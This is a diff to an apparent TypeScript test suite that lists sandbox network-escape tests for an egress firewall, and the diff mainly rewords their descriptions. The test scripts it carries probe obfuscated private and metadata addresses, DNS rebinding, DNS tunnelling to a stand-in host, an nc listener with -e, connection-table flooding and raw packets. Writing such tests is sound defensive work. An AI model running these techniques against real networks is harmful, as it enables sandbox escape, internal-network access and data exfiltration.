@@ -23,9 +23,9 @@ function connects(host: string, port = 80): string {
 
 /** The tests of the egress engine show that the same connection works from a namespace without rules. */
 const noPolicy: Weakened = {
-  cannotBeShown: "no policy opens it; without rules the test network's host lets it through",
+  cannotBeShown: "no policy allows it; without rules, the connection works in the test network",
 };
-const publicNamesOnly: Weakened = { cannotBeShown: "no policy lets a name stand for a private address" };
+const publicNamesOnly: Weakened = { cannotBeShown: "no policy allows private addresses by name" };
 const opened = (...rules: readonly string[]): Weakened => ({ plan: { egress: allow(...rules) } });
 
 const destinations: readonly (readonly [id: string, what: string, host: string, weakened: Weakened])[] = [
@@ -37,14 +37,14 @@ const destinations: readonly (readonly [id: string, what: string, host: string, 
   ["private-172", "the private network 172.16.0.0/12", "172.31.255.254", opened("172.16.0.0/12")],
   ["private-192", "the private network 192.168.0.0/16", "192.168.7.7", opened("192.168.0.0/16")],
   ["private-ipv6", "a private network over IPv6", "fd12:3456::1", opened("[fd12::/16]")],
-  ["cgnat", "the provider's network", "100.64.9.2", opened("100.64.0.0/10")],
-  ["link-local", "the local link", "169.254.1.1", noPolicy],
+  ["cgnat", "the provider's network (CGNAT)", "100.64.9.2", opened("100.64.0.0/10")],
+  ["link-local", "a link-local address", "169.254.1.1", noPolicy],
   ["decimal-address", "a private address written as one decimal number", "174260226", opened("10.0.0.0/8")],
   ["hexadecimal-address", "a private address written in hexadecimal", "0x0a630002", opened("10.0.0.0/8")],
   ["octal-address", "a private address written in octal", "012.0143.0.02", opened("10.0.0.0/8")],
   ["mapped-address", "a private IPv4 address written as IPv6", "::ffff:10.99.0.2", opened("10.0.0.0/8")],
-  ["nat64-address", "a metadata address by way of NAT64", "64:ff9b::a9fe:a9fe", noPolicy],
-  ["6to4-address", "a private address by way of 6to4", "2002:a63:2::1", noPolicy],
+  ["nat64-address", "a metadata address through NAT64", "64:ff9b::a9fe:a9fe", noPolicy],
+  ["6to4-address", "a private address through 6to4", "2002:a63:2::1", noPolicy],
   ["own-host", "the host by its address in the network", "192.168.77.2", noPolicy],
   ["own-host-ipv6", "the host by its address in the network over IPv6", "fd99::2", noPolicy],
   ["private-name", "a private address by a public name", "private.example.com", publicNamesOnly],
@@ -59,7 +59,7 @@ export const networkAttacks: readonly Attack[] = [
     ([id, what, host, weakened]): Attack => ({
       id: `network-${id}`,
       does: `connects to ${what}`,
-      defence: "the egress policy, outside of the sandbox",
+      defence: "the egress policy, enforced outside the sandbox",
       plan: { egress: internet },
       script: connects(host),
       weakened,
@@ -67,32 +67,32 @@ export const networkAttacks: readonly Attack[] = [
   ),
   {
     id: "network-agent",
-    does: "connects to a port of the executor by the gateway of its own network",
-    defence: "the egress policy, on what comes in to the host too",
+    does: "connects to a port of the executor through the gateway of its network",
+    defence: "the egress policy also filters connections to the host",
     plan: { egress: internet },
     script: `gateway=${gateway}; [ -n "$gateway" ] || exit 1; ${connects("$gateway", 9100)}`,
     weakened: noPolicy,
   },
   {
     id: "network-instance",
-    does: "connects to the instance, which has a public address",
-    defence: "the instance's addresses are closed under every policy",
+    does: "connects to the instance at its public address",
+    defence: "every policy blocks the instance's addresses",
     plan: { egress: internet },
     script: connects(instanceIpv4),
     weakened: { egress: { closed: [] } },
   },
   {
     id: "network-instance-allowed",
-    does: "whose allow-list is as wide as the world connects to the instance",
-    defence: "the instance's addresses are closed under every policy",
+    does: "whose allow-list contains every address connects to the instance",
+    defence: "every policy blocks the instance's addresses",
     plan: { egress: allow("0.0.0.0/0") },
     script: connects(instanceIpv4),
     weakened: { egress: { closed: [] } },
   },
   {
     id: "network-neighbour",
-    does: "connects to another job's sandbox, which listens",
-    defence: "sandboxes have a link of their own each, and are closed to each other under every policy",
+    does: "connects to a port of another job's sandbox",
+    defence: "each sandbox has its own network link, and every policy blocks other sandboxes",
     plan: { egress: internet },
     // Prints READY once it has reached itself.
     neighbour: `address=$(ip -4 address show eth0 | awk '/inet / { sub("/.*", "", $2); print $2 }')
@@ -100,12 +100,12 @@ nc -ll -p 8000 -e /bin/echo "here <- there" &
 until nc -w 1 "$address" 8000 </dev/null | grep -q here; do sleep 0.1; done
 echo "READY $address"; wait\n`,
     script: connects("$NEIGHBOUR", 8000),
-    weakened: { cannotBeShown: "no policy opens one sandbox to another; the neighbour shows that it listens" },
+    weakened: { cannotBeShown: "no policy allows it; the test checks that the other sandbox listens" },
   },
   {
     id: "network-first-moment",
-    does: "sends from its very first moment on, a hundred times",
-    defence: "the rules stand before the sandbox has an interface",
+    does: "sends packets from the moment it starts, a hundred times",
+    defence: "the rules are set before the sandbox gets its network interface",
     plan: { egress: internet },
     script: perlScript(`
 my ($reached, $answer) = (0, "");
@@ -119,39 +119,39 @@ print $reached ? "BREACH $reached times\\n" : "HELD $answer\\n";`),
   },
   {
     id: "network-none",
-    does: "that was given no network reaches the internet",
-    defence: "no interface but its own loopback",
+    does: "without a network connects to the internet",
+    defence: "the only network interface is the sandbox's loopback",
     script: connects(publicIpv4),
     weakened: { plan: { egress: internet } },
   },
   {
     id: "network-other-address",
-    does: "that may reach one name connects to another address under this name",
-    defence: "names open only the addresses that the executor's resolver answered",
+    does: "that may reach one name connects to another address under that name",
+    defence: "a name allows only the addresses that the executor's resolver returned",
     plan: { egress: allow("public.example.com:443") },
     script: `echo "${otherPublicIpv4} public.example.com" >> /etc/hosts 2>/dev/null; ${connects(otherPublicIpv4, 443)}`,
     weakened: { plan: { egress: internet } },
   },
   {
     id: "network-other-port",
-    does: "that may reach one port of a name connects to another",
-    defence: "rules hold for their port",
+    does: "that may reach one port of a name connects to another port",
+    defence: "rules apply only to their port",
     plan: { egress: allow("public.example.com:443") },
     script: connects("public.example.com", 22),
     weakened: { plan: { egress: allow("public.example.com") } },
   },
   {
     id: "network-rebinding",
-    does: "asks for a name until it answers with a private address",
-    defence: "the executor's resolver takes private addresses out of answers",
+    does: "looks up a name again until it resolves to a private address (DNS rebinding)",
+    defence: "the executor's resolver removes private addresses from answers",
     plan: { egress: internet },
     script: `for i in 1 2 3; do nslookup rebinding.example.com >/tmp/answer 2>&1; grep -q 10.99.0.2 /tmp/answer && { echo BREACH the private answer; exit; }; sleep 0.3; done; echo HELD only public answers\n`,
     weakened: publicNamesOnly,
   },
   {
     id: "network-connection-table",
-    does: "opens and closes connections as fast as it can, which fills the host's connection table",
-    defence: "new connections are limited for each sandbox, with those that the kernel still remembers",
+    does: "opens and closes connections as fast as it can, to fill the host's connection table",
+    defence: "connections are limited for each sandbox, including closed ones that the kernel still tracks",
     plan: { egress: internet },
     script: perlScript(`
 my $end = time + 8;
@@ -177,36 +177,36 @@ for my $worker (0 .. 7) {
 my $opened = 0;
 $opened += readline $_ for @readers;
 print $opened > 4500 ? "BREACH $opened connections\n" : "HELD $opened connections\n";`),
-    weakened: { cannotBeShown: "no setting lifts the limit; the egress engine's tests count the table's entries" },
+    weakened: { cannotBeShown: "no setting removes the limit; the egress engine's tests count the table's entries" },
   },
   {
     id: "network-own-resolver",
-    does: "that may reach some names asks a name server of its own",
-    defence: "look-ups only through the executor's resolver",
+    does: "that may reach some names queries a name server of its choice",
+    defence: "names can be looked up only through the executor's resolver",
     plan: { egress: allow("public.example.com:443") },
     script: connects(publicIpv4, 53),
     weakened: noPolicy,
   },
   {
     id: "network-dns-over-tls",
-    does: "that may reach some names asks a name server over TLS",
-    defence: "look-ups only through the executor's resolver",
+    does: "that may reach some names queries a name server over TLS",
+    defence: "names can be looked up only through the executor's resolver",
     plan: { egress: allow("public.example.com:443") },
     script: connects(publicIpv4, 853),
     weakened: noPolicy,
   },
   {
     id: "network-dns-tunnel",
-    does: "that may reach some names carries data out in the names that it looks up",
-    defence: "names outside the policy are not passed on",
+    does: "that may reach some names sends data out in the names that it looks up (DNS tunnel)",
+    defence: "the resolver does not forward names outside the policy",
     plan: { egress: allow("public.example.com:443") },
     script: `nslookup c2VjcmV0.tunnel.example.org >/tmp/answer 2>&1; grep -q ${publicIpv4} /tmp/answer && echo BREACH it was asked || echo HELD refused\n`,
     weakened: { plan: { egress: allow("*.tunnel.example.org") } },
   },
   {
     id: "network-ipv6",
-    does: "that may reach IPv4 addresses goes by IPv6",
-    defence: "one policy for both",
+    does: "that may reach IPv4 addresses uses IPv6",
+    defence: "one policy covers both",
     plan: { egress: allow("45.45.45.45/32") },
     script: connects("2a00:1450::45"),
     weakened: { plan: { egress: internet } },
@@ -214,7 +214,7 @@ print $opened > 4500 ? "BREACH $opened connections\n" : "HELD $opened connection
   {
     id: "network-datagrams",
     does: "sends datagrams to a private address",
-    defence: "the policy holds for every protocol",
+    defence: "the policy covers every protocol",
     plan: { egress: internet },
     script: perlScript(`
 socket(my $socket, 2, 2, 17) or die $!; my $to = pack("SnC4x8", 2, 7000, 10, 99, 0, 2);
@@ -233,7 +233,7 @@ print $answer ? "BREACH $answer\\n" : "HELD no answer: $!\\n";`),
   },
   {
     id: "network-raw-packets",
-    does: "forges packets in its network",
+    does: "forges packets with a raw socket in its network",
     defence: "no capability NET_RAW",
     plan: { egress: internet },
     script: forbiddenCall(`my $socket; socket($socket, 17, 3, 0x0300) ? 1 : undef`),
@@ -242,7 +242,7 @@ print $answer ? "BREACH $answer\\n" : "HELD no answer: $!\\n";`),
   {
     id: "network-firewall",
     does: "changes the rules of its own network",
-    defence: "the rules are outside of the sandbox; no capability NET_ADMIN",
+    defence: "the rules are outside the sandbox; no capability NET_ADMIN",
     plan: { egress: internet },
     script: `ip route add 10.0.0.0/8 dev eth0 2>/tmp/why && echo BREACH a route || echo "HELD $(head -n 1 /tmp/why)"\n`,
     weakened: { hardening: { capabilities: ["NET_ADMIN"], userNamespace: false } },
